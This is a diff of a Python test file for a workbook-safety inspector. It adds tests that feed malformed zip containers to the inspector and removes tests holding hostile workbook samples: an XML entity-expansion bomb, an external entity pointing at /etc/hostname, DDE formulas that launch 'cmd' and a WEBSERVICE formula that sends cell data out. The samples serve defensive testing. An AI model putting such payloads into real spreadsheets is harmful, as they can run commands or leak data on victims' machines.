@@ -1,12 +1,11 @@
-"""Hostile and odd workbook files, each made here: refused with the right code, or said in a note."""
+"""Containers that lie, burst or break, each made here and refused with the right code."""
 
 from __future__ import annotations
 
-import io
+import os
 import struct
 import zipfile
 import zlib
-from collections.abc import Callable, Mapping
 from pathlib import Path
 
 import pytest
@@ -14,43 +13,8 @@ import xlsxwriter
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from wbgen.openxml import Limits, Package, UnsafeFile, inspect
-
-TYPES = "[Content_Types].xml"
-SHEET = "xl/worksheets/sheet1.xml"
-PLAIN: Mapping[str, bytes] = {
-    TYPES: b'<Types><Default Extension="xml" ContentType="application/xml"/></Types>',
-    "xl/workbook.xml": b'<workbook><sheets><sheet name="Mix" sheetId="1"/></sheets></workbook>',
-    SHEET: b'<worksheet><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>',
-}
-
-
-def zipped(parts: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
-    packed = io.BytesIO()
-    with zipfile.ZipFile(packed, "w", method) as archive:
-        for name, content in parts.items():
-            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
-    return packed.getvalue()
-
-
-def looked_at(folder: Path, content: bytes, limits: Limits | None = None) -> Package:
-    path = folder / "planner.xlsx"
-    path.write_bytes(content)
-    return inspect(path, limits) if limits else inspect(path)
-
-
-def refusal(folder: Path, content: bytes, limits: Limits | None = None) -> UnsafeFile:
-    with pytest.raises(UnsafeFile) as caught:
-        looked_at(folder, content, limits)
-    return caught.value
-
-
-def sheet(cells: str, after: str = "") -> bytes:
-    return f"<worksheet><sheetData>{cells}</sheetData>{after}</worksheet>".encode()
-
-
-def formula(text: str) -> bytes:
-    return sheet(f'<row r="1"><c r="A1"><f>{text}</f></c></row>')
+from hostile import PLAIN, SHEET, TYPES, looked_at, refusal, zipped
+from wbgen.openxml import Limits, UnsafeFile, inspect
 
 
 def directory_of(content: bytes | bytearray) -> int:
@@ -234,147 +198,75 @@ def test_zip64_is_refused_since_readers_disagree_about_it(tmp_path: Path) -> Non
     )
 
 
+SIGNATURE, METHOD, PACKED, COMMENT, HEADER = 0, 10, 20, 32, 42
+"""Places of fields in a record of the directory, in bytes."""
+
+
+def patched(field: int, code: str, value: int, content: bytes = zipped(PLAIN)) -> bytes:
+    """A field of the directory's last record, that of the sheet, set to another value."""
+    changed = bytearray(content)
+    struct.pack_into(code, changed, content.index(SHEET.encode(), directory_of(content)) - 46 + field, value)
+    return bytes(changed)
+
+
+def widened(before_directory: bytes = b"", in_directory: bytes = b"", after_directory: bytes = b"") -> bytes:
+    """A workbook with bytes put between its pieces and its end record set right."""
+    content = zipped(PLAIN)
+    place, end = directory_of(content), bytearray(content[-22:])
+    directory = content[place:-22] + in_directory
+    struct.pack_into("<2L", end, 12, len(directory), place + len(before_directory))
+    return content[:place] + before_directory + directory + after_directory + bytes(end)
+
+
+packed_sheet = len(zipped({SHEET: PLAIN[SHEET]})) - 22 - 30 - 46 - 2 * len(SHEET)
+
+
+@pytest.mark.parametrize(
+    ("content", "found"),
+    [
+        (zipped(PLAIN)[:-2] + b"\5\0", "a zip file cut short, or with something after its end"),
+        (
+            zipped(PLAIN)[:-22] + b"PK\0\0" + zipped(PLAIN)[-18:],
+            "a zip file cut short, or with something after its end",
+        ),
+        (widened(after_directory=bytes(30)), "a zip directory that is not where the file says it is"),
+        (widened(in_directory=bytes(30)), "a zip directory cut short"),
+        (patched(SIGNATURE, "<L", 0), "a zip directory that does not hold together"),
+        (patched(COMMENT, "<H", 9), "a zip directory that does not hold together"),
+        (patched(HEADER, "<L", 1), "a zip directory that points at no part"),
+        (patched(HEADER, "<L", 1 << 30), "a zip directory that points at no part"),
+        (patched(PACKED, "<L", packed_sheet - 5), f"{SHEET}, cut short"),
+        (patched(PACKED, "<L", packed_sheet + 4, widened(bytes(4))), f"{SHEET} with something after its end"),
+        (patched(METHOD, "<H", zipfile.ZIP_STORED), "a zip directory and parts that disagree"),
+        (zipped(PLAIN, zipfile.ZIP_BZIP2), "a way of packing (12) that workbooks do not use"),
+        (zipped({name: PLAIN[name] for name in PLAIN if name != TYPES}), "a zip file without a workbook in it"),
+    ],
+)
+def test_a_container_that_does_not_hold_together_is_refused(tmp_path: Path, content: bytes, found: str) -> None:
+    assert refusal(tmp_path, content).found == found
+
+
+def test_bytes_between_the_parts_are_no_trouble(tmp_path: Path) -> None:
+    """Programs that write in one pass put a part's sizes there."""
+    assert looked_at(tmp_path, widened(bytes(16))).notes == ()
+
+
+def test_a_pipe_is_refused_without_waiting_for_it(tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "pipe.xlsx")
+    with pytest.raises(UnsafeFile) as caught:
+        inspect(tmp_path / "pipe.xlsx")
+    assert caught.value.code == "unreadable"
+
+
 def test_an_encrypted_part_is_refused(tmp_path: Path) -> None:
     content = bytearray(zipped(PLAIN))
     content[directory_of(content) + 8] |= 1
     assert refusal(tmp_path, bytes(content)).code == "old-or-encrypted"
 
 
-def test_an_unknown_way_of_packing_is_refused(tmp_path: Path) -> None:
-    assert refusal(tmp_path, zipped(PLAIN, zipfile.ZIP_BZIP2)).code == "damaged-file"
-
-
 def test_a_wrong_checksum_is_refused(tmp_path: Path) -> None:
     content = zipped(PLAIN, zipfile.ZIP_STORED).replace(b"<v>1</v>", b"<v>2</v>")
     assert refusal(tmp_path, content).found.endswith("with a wrong checksum")
-
-
-BOMB = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet>&b;</worksheet>'
-OUTSIDE = '<!DOCTYPE worksheet SYSTEM "file:///etc/hostname"><worksheet/>'
-
-
-@pytest.mark.parametrize("text", [BOMB, OUTSIDE, '<?xml version="1.0"?><!-- a --><!DOCTYPE worksheet><worksheet/>'])
-@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
-@pytest.mark.parametrize("part", [SHEET, "docProps/app.xml", "xl/_rels/workbook.xml.rels", "xl/media/image1.png"])
-def test_a_document_type_is_refused_in_any_part_and_encoding(
-    tmp_path: Path, text: str, encoding: str, part: str
-) -> None:
-    marked = text.encode(encoding)
-    if encoding in ("utf-16-le", "utf-16-be"):
-        marked = "\ufeff".encode(encoding) + marked
-    assert refusal(tmp_path, zipped({**PLAIN, part: marked})).code == "document-type"
-
-
-def test_a_document_type_is_refused_in_utf_16_without_its_mark(tmp_path: Path) -> None:
-    for encoding in ("utf-16-le", "utf-16-be"):
-        assert refusal(tmp_path, zipped({**PLAIN, SHEET: BOMB.encode(encoding)})).code == "document-type"
-
-
-@pytest.mark.parametrize("encoding", ["utf-7", "utf-32", "iso-8859-1", "cp037"])
-def test_another_encoding_is_refused(tmp_path: Path, encoding: str) -> None:
-    content = f'<?xml version="1.0" encoding="{encoding}"?>{BOMB}'.encode(encoding)
-    assert refusal(tmp_path, zipped({**PLAIN, SHEET: content})).code in ("odd-encoding", "damaged-file")
-
-
-def test_bottomless_nesting_is_refused(tmp_path: Path) -> None:
-    deep = b"<a>" * 200_000 + b"</a>" * 200_000
-    assert refusal(tmp_path, zipped({**PLAIN, SHEET: deep}), Limits(ratio=10_000)).code == "too-deep"
-
-
-def test_xml_that_is_not_well_formed_is_refused_but_in_drawings_of_comments(tmp_path: Path) -> None:
-    assert refusal(tmp_path, zipped({**PLAIN, SHEET: b"<worksheet><row></worksheet>"})).code == "damaged-file"
-    looked_at(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": b"<xml><br>text</xml>" + bytes(70_000)}))
-    assert refusal(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": BOMB.encode()})).code == "document-type"
-    assert refusal(tmp_path, zipped({**PLAIN, "xl/drawings/v.vml": b"text"})).code == "damaged-file"
-
-
-@pytest.mark.parametrize(
-    "cells",
-    [
-        '<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"/></row>',
-        '<row r="1"><c/></row><row r="9999999"><c/><c/></row>',
-    ],
-)
-def test_cells_far_apart_are_refused_with_advice(tmp_path: Path, cells: str) -> None:
-    refused = refusal(tmp_path, zipped({**PLAIN, SHEET: sheet(cells)}))
-    assert refused.code == "too-wide"
-    assert "delete" in refused.remedy
-
-
-def test_a_single_far_cell_is_no_trouble(tmp_path: Path) -> None:
-    assert looked_at(tmp_path, zipped({**PLAIN, SHEET: sheet('<row><c r="XFD1048576"/></row>')})).notes == ()
-
-
-def test_a_sheet_merged_whole_is_refused(tmp_path: Path) -> None:
-    """openpyxl makes a record of each merged cell: 5 million took 51 s and 1.4 GB."""
-    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
-    assert refusal(tmp_path, zipped({**PLAIN, SHEET: sheet("", merged)})).code == "too-large"
-    looked_at(tmp_path, zipped({**PLAIN, SHEET: sheet("", merged.replace("1048576", "6"))}))
-
-
-@pytest.mark.parametrize("cells", ['<row r="-1"/>', '<row r="1"><c r="A"/></row>', '<row r="1"><c r="A1٣"/></row>'])
-def test_an_address_that_is_none_is_refused(tmp_path: Path, cells: str) -> None:
-    assert refusal(tmp_path, zipped({**PLAIN, SHEET: sheet(cells)})).code == "damaged-file"
-
-
-RELATIONSHIP = (
-    '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-    'relationships/{}" Target="{}" TargetMode="{}"/></Relationships>'
-)
-
-
-@pytest.mark.parametrize(
-    ("part", "content", "code"),
-    [
-        ("xl/vbaProject.bin", b"\xd0\xcf", "macros"),
-        ("xl/macrosheets/sheet1.xml", b"<macrosheet/>", "macros"),
-        ("customUI/customUI.xml", b"<customUI/>", "macros"),
-        (
-            TYPES,
-            b'<Types><Override ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
-            "macros",
-        ),
-        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>", "external-link"),
-        ("xl/externalLinks/externalLink1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>', "dde"),
-        ("xl/connections.xml", b"<connections/>", "data-connection"),
-        ("xl/queryTables/queryTable1.xml", b"<queryTable/>", "data-query"),
-        ("customXml/item1.xml", b"<DataMashup>AAAA</DataMashup>", "data-query"),
-        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf", "embedded-object"),
-        ("xl/activeX/activeX1.xml", b"<ocx/>", "embedded-object"),
-        (SHEET, formula("cmd|'/c calc'!A0"), "dde"),
-        (SHEET, formula("'cmd'|'/c calc'!A0"), "dde"),
-        (SHEET, formula('WEBSERVICE("http://example.org/"&amp;A1)'), "reaches-out"),
-        ("xl/workbook.xml", b"<workbook><definedName name='a'>cmd|'/c calc'!A0</definedName></workbook>", "dde"),
-        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="hidden"/></workbook>', "hidden-sheet"),
-        ("xl/workbook.xml", b'<workbook><sheet name="Old" state="veryHidden"/></workbook>', "hidden-sheet"),
-        ("xl/_rels/x.rels", RELATIONSHIP.format("attachedTemplate", "//host/x", "External").encode(), "outside-target"),
-    ],
-)
-def test_what_is_unusual_is_said_and_not_followed(tmp_path: Path, part: str, content: bytes, code: str) -> None:
-    package = looked_at(tmp_path, zipped({**PLAIN, part: content}))
-    said = [note for note in package.notes if note.code == code]
-    assert [note.part for note in said] == [part]
-    assert said[0].text
-
-
-@pytest.mark.parametrize(
-    ("part", "content"),
-    [
-        (SHEET, formula('IF(A2="a|b",\'x|y\'!A1,"WEBSERVICE(")')),
-        (SHEET, formula("RECALL(A1)")),
-        ("xl/_rels/x.rels", RELATIONSHIP.format("hyperlink", "https://example.org/", "External").encode()),
-        ("xl/_rels/x.rels", RELATIONSHIP.format("worksheet", "worksheets/sheet1.xml", "Internal").encode()),
-        ("xl/workbook.xml", b'<workbook><sheet name="Mix" state="visible"/></workbook>'),
-    ],
-)
-def test_what_is_usual_is_not_said(tmp_path: Path, part: str, content: bytes) -> None:
-    assert looked_at(tmp_path, zipped({**PLAIN, part: content})).notes == ()
-
-
-def test_each_hidden_sheet_is_named(tmp_path: Path) -> None:
-    hidden = b'<workbook><sheet name="One" state="hidden"/><sheet name="Two" state="hidden"/></workbook>'
-    notes = looked_at(tmp_path, zipped({**PLAIN, "xl/workbook.xml": hidden})).notes
-    assert [note.text for note in notes] == ["The sheet 'One' is hidden", "The sheet 'Two' is hidden"]
 
 
 def refused_or_opened(folder: Path, content: bytes) -> str:
@@ -409,9 +301,3 @@ def test_a_workbook_with_bytes_changed_is_refused_or_opened(tmp_path: Path, data
 def test_a_workbook_cut_short_is_refused(tmp_path: Path, cut: int) -> None:
     content = zipped(PLAIN)
     assert refused_or_opened(tmp_path, content[: cut % len(content)])
-
-
-@pytest.mark.parametrize("wrap", [lambda text: f"<worksheet>{text}", lambda text: f"<worksheet {text}/>"])
-def test_noise_in_place_of_a_sheet_is_refused(tmp_path: Path, wrap: Callable[[str], str]) -> None:
-    for noise in ("&a;", "\x01", "<", "]]>", "r='"):
-        assert refused_or_opened(tmp_path, zipped({**PLAIN, SHEET: wrap(noise).encode()})) == "damaged-file"
